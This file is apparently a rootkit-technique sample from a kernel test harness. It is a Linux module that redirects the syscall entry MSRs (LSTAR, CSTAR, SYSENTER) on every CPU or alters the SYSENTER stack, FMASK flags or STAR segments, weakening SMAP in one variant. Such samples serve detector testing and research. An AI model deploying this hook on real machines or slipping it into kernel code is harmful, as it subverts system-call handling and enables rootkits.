// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: the MSR that says where SYSCALL enters the kernel (how=lstar; how=cstar: of 32-bit programs) leads to the
 * module, which goes on to the kernel's entry; so does that of SYSENTER (how=sysenter), or its stack is another (how=stack);
 * flags that a system call has to clear stay set (how=flags), or the segments are others (how=segments). Who: published for Linux in Phrack 68 and by enyelkm's successors.
 * Changes: the MSR on every CPU. Undone when it is unloaded.
 */
#include "attack.h"

#include <asm/msr.h>
#include <linux/smp.h>

VARIANT("lstar");

unsigned long ringside_original_entry;
void hooked_entry(void);
/* jmp *ringside_original_entry(%rip), in code that no compiler changes: registers and stack are the program's. */
asm(".text\n.globl hooked_entry\n.type hooked_entry, @function\nhooked_entry:\n"
#ifdef CONFIG_X86_64
    ".byte 0xff, 0x25\n.long ringside_original_entry - . - 4\n.size hooked_entry, . - hooked_entry\n");
#else
    ".byte 0xff, 0x25\n.long ringside_original_entry\n.size hooked_entry, . - hooked_entry\n");
#endif

static u32 msr;
static unsigned long originals[NR_CPUS];

static void write(unsigned long value)
{
	asm volatile("wrmsr" : : "c"(msr), "a"((u32)value), "d"((u32)((u64)value >> 32)));
}

/* AC remains set, which SMAP goes by; the lower half of STAR serves another mode of the CPU. */
static unsigned long changed(unsigned long value)
{
	if (HOW("stack"))
		return value - 64;
	if (HOW("flags"))
		return value & ~0x40000UL;
	if (HOW("segments"))
		return value | 4;
	return (unsigned long)hooked_entry;
}

static void change(void *unused)
{
	u32 low, high;
	unsigned long value;

	asm volatile("rdmsr" : "=a"(low), "=d"(high) : "c"(msr));
	value = (unsigned long)(low | (u64)high << 32);
	originals[smp_processor_id()] = value;
	ringside_original_entry = value;
	write(changed(value));
}

static void change_back(void *unused)
{
	write(originals[smp_processor_id()]);
}

static int __init start(void)
{
	msr = HOW("lstar")	? 0xc0000082
	      : HOW("sysenter") ? 0x176
	      : HOW("stack")	? 0x175
	      : HOW("flags")	? 0xc0000084
	      : HOW("segments") ? 0xc0000081
				: 0xc0000083;
	on_each_cpu(change, NULL, 1);
	return 0;
}

static void __exit stop(void)
{
	on_each_cpu(change_back, NULL, 1);
}

ATTACK(start, stop);
